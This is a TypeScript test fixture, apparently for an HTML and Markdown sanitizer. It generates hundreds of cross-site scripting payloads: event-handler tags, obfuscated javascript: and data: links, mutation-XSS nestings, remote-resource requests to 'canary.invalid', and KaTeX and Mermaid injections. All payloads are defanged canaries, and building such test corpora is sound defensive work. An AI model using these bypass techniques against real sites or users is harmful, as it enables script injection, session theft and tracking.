/**
 * Hostile texts, made by a grammar of our own: what would run, or would ask somebody, if it were taken for more than text. Each names
 * itself by its number when it runs, and asks `canary.invalid` for that number when it asks.
 */

/** Where nobody may be asked for anything. */
export const canary = 'canary.invalid';

const script = (n: number) => `(self.executed=self.executed||[]).push(${n})`;
const place = (n: number) => `https://${canary}/${n}`;
type Made = (n: number) => string;

/** Elements that run a handler by themselves, or as soon as somebody passes over them. */
const handlers: readonly Made[] = [
  n => `<img src=x onerror="${script(n)}">`,
  n => `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload="${script(n)}">`,
  n => `<svg onload="${script(n)}"></svg>`,
  n => `<svg><animate onbegin="${script(n)}" attributeName=x dur=1s></svg>`,
  n => `<svg><set onbegin="${script(n)}" attributeName=x></svg>`,
  n => `<body onload="${script(n)}">`,
  n => `<video><source onerror="${script(n)}"></video>`,
  n => `<audio src=x onerror="${script(n)}"></audio>`,
  n => `<input autofocus onfocus="${script(n)}">`,
  n => `<select autofocus onfocus="${script(n)}"><option>`,
  n => `<textarea autofocus onfocus="${script(n)}"></textarea>`,
  n => `<a href=# autofocus tabindex=0 onfocus="${script(n)}">x</a>`,
  n => `<details open ontoggle="${script(n)}">x</details>`,
  n => `<iframe onload="${script(n)}"></iframe>`,
  n =>
    `<iframe srcdoc="<script>parent.${script(n).replace('self', 'parent').replace('self', 'parent')}</script>"></iframe>`,
  n => `<object data=x onerror="${script(n)}"></object>`,
  n => `<embed src=x onload="${script(n)}">`,
  n => `<marquee onstart="${script(n)}">x</marquee>`,
  n => `<style onload="${script(n)}">x{}</style>`,
  n => `<link rel=stylesheet href=x onerror="${script(n)}">`,
  n => `<script>${script(n)}</script>`,
  n => `<script src=x onerror="${script(n)}"></script>`,
  n => `<div onpointerenter="${script(n)}" style="position:fixed;inset:0">x</div>`,
  n => `<div contenteditable autofocus onfocus="${script(n)}">x</div>`,
  n => `<math><mtext onclick="${script(n)}" href="javascript:${script(n)}">x</mtext></math>`,
  n => `<form><button formaction="javascript:${script(n)}" autofocus onfocus="${script(n)}">x</button></form>`,
];

const entity = (text: string) => Array.from(text, letter => `&#${letter.codePointAt(0) ?? 0};`).join('');

/** The same tag, written so that another reader of HTML may see something else in it. */
const spellings: readonly ((tag: string) => string)[] = [
  tag => tag,
  tag => tag.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`).replace(/ on/g, ' oN'),
  tag => tag.replace(/<(\w+) /g, '<$1/'),
  tag => tag.replace(/<(\w+) /g, '<$1\n\t'),
  tag => tag.replace(/"\((self[^"]*)"/g, (_, code: string) => `"${entity(`(${code}`)}"`),
  tag => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** What changes its meaning when it is parsed twice, or in another place than it was written for. */
const nestings: readonly ((core: string) => string)[] = [
  core => `<noscript><p title="</noscript>${core}">`,
  core => `<template>${core}</template>`,
  core => `<svg></p><style><a id="</style>${core}">`,
  core => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${core.replaceAll('"', '&quot;')}">`,
  core => `<math><annotation-xml encoding="text/html">${core}</annotation-xml></math>`,
  core => `<svg><foreignObject>${core}</foreignObject></svg>`,
  core => `<svg><desc>${core}</desc></svg>`,
  core => `<svg><title>${core}</title></svg>`,
  core => `<table>${core}<tr><td>x`,
  core => `<table><caption>${core}</caption><colgroup>${core}`,
  core => `<!--><!---->${core}<!-- -->`,
  core => `<!-- --!>${core}-->`,
  core => `<![CDATA[${core}]]>`,
  core => `<svg><![CDATA[</svg>${core}]]></svg>`,
  core => `<title>${core}</title></title>${core}`,
  core => `<textarea></textarea>${core}`,
  core => `<xmp></xmp>${core}`,
  core => `<noembed></noembed>${core}<noframes></noframes>`,
  core => `<select><option></select>${core}`,
  core => `<form><form>${core}</form><input name=attributes></form>`,
  core => `<p id=body><p name=createElement>${core}`,
  core => `"'>${core}<"'`,
  core => `\`\`\`\n${core}\n\`\`\`\n${core}`,
  core => `<a href="x"${'\n'.repeat(3)}>${core}</a`,
  core => `> - 1. > ${core}`,
  core => `| a | b |\n| --- | --- |\n| ${core} | ${core} |`,
  core => `\u202E${core}\u2066\u200B`,
  core => `<di\u0000v>${core}</di\u0000v>`,
];

/** Addresses that must not become a link. */
const schemes: readonly Made[] = [
  n => `javascript:${script(n)}`,
  n => `JaVaScRiPt:${script(n)}`,
  n => `java&Tab;script&colon;${script(n)}`,
  n => `&#106;avascript:${script(n)}`,
  n => `%6aavascript:${script(n)}`,
  n => `\u0001javascript:${script(n)}`,
  n => `javascript://%0a${script(n)}`,
  n => `vbscript:${script(n)}`,
  n => `data:text/html,<script>${script(n)}</script>`,
  n => `data:text/html;base64,${Buffer.from(`<script>${script(n)}</script>`).toString('base64')}`,
  n => `blob:${place(n)}`,
  n => `file:///etc/passwd?${n}`,
  n => `view-source:${place(n)}`,
  n => `chrome-extension://x/${n}`,
];
const links: readonly ((address: string) => string)[] = [
  address => `[press](${address})`,
  address => `[press](<${address}>)`,
  address => `![picture](${address})`,
  address => `[press][r]\n\n[r]: <${address}> "title"`,
  address => `<${address}>`,
  address => `<a href="${address}">press</a>`,
  address => `<svg><a xlink:href="${address}"><text>press</text></a></svg>`,
];

/** What asks somebody for something, without any script. */
const requests: readonly Made[] = [
  n => `![seen](${place(n)})`,
  n => `![seen][p]\n\n[p]: ${place(n)}`,
  n => `<img src="${place(n)}">`,
  n => `<img srcset="${place(n)} 2x" loading=eager>`,
  n => `<picture><source srcset="${place(n)}"><img></picture>`,
  n => `<video poster="${place(n)}" src="${place(n)}" autoplay></video>`,
  n => `<audio src="${place(n)}" autoplay></audio>`,
  n => `<input type=image src="${place(n)}">`,
  n => `<body background="${place(n)}">`,
  n => `<svg><image href="${place(n)}" /><use href="${place(n)}#x" /><feImage href="${place(n)}" /></svg>`,
  n => `<iframe src="${place(n)}"></iframe>`,
  n => `<object data="${place(n)}"></object><embed src="${place(n)}">`,
  n =>
    `<link rel=stylesheet href="${place(n)}"><link rel=prefetch href="${place(n)}"><link rel=preload as=image href="${place(n)}">`,
  n => `<style>@import url(${place(n)}); body { background: url(${place(n)}) }</style>`,
  n => `<div style="background-image:url(${place(n)});list-style:url('${place(n)}')">x</div>`,
  n => `<meta http-equiv=refresh content="0;url=${place(n)}">`,
  n => `<base href="${place(n)}/">`,
  n => `<script src="${place(n)}"></script><script type=module>import '${place(n)}'</script>`,
  n => `<form action="${place(n)}"><button autofocus>x</button></form>`,
  n => `<track src="${place(n)}"><source src="${place(n)}">`,
];

/** Formulas and code, which are drawn by libraries of their own. */
const drawn: readonly Made[] = [
  n => `$\\href{javascript:${script(n)}}{x}$`,
  n => `$$\\url{javascript:${script(n)}}$$`,
  n => `$\\includegraphics[height=1em]{${place(n)}}$`,
  n => `$\\htmlStyle{background:url(${place(n)})}{x}$`,
  n => `$\\htmlData{x=y" onpointerenter="${script(n)}}{x}$`,
  n => `$\\htmlClass{x" autofocus onfocus="${script(n)}}{x}$`,
  n => `$\\htmlId{x"><img src=x onerror=${script(n)}>}{x}$`,
  n => `$\\text{<img src=x onerror=${script(n)}>}$`,
  n => `$\\color{red" onload="${script(n)}}x$`,
  n => `$\\def\\a{\\a\\a}\\a$ <img src=x onerror="${script(n)}">`,
  n => `\`\`\`html\n<img src=x onerror="${script(n)}">\n\`\`\``,
  n => `\`\`\`"><img src=x onerror=${script(n)}>\nx\n\`\`\``,
  n => `~~~svg onload=${script(n)}\n<svg onload="${script(n)}">\n~~~`,
  n => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror='${script(n)}'>"]; click A "javascript:${script(n)}"\n\`\`\``,
  n => `\`<img src=x onerror="${script(n)}">\``,
  n => `[^1]\n\n[^1]: <img src=x onerror="${script(n)}"> [x](javascript:${script(n)})`,
  n => `- [x] <img src=x onerror="${script(n)}">`,
  n => `&lt;img src=x onerror=${script(n)}&gt; &amp;lt;script&amp;gt;${script(n)}&amp;lt;/script&amp;gt; &copy;`,
];

/** All of them, numbered from 0. */
export const payloads: readonly string[] = [
  ...handlers.flatMap(tag => spellings.map(spelt => (n: number) => spelt(tag(n)))),
  ...nestings.flatMap(nested => [0, 2, 20].map(core => (n: number) => nested((handlers[core] as Made)(n)))),
  ...schemes.flatMap(scheme => links.map(link => (n: number) => link(scheme(n)))),
  ...requests,
  ...drawn,
].map((make, n) => make(n));
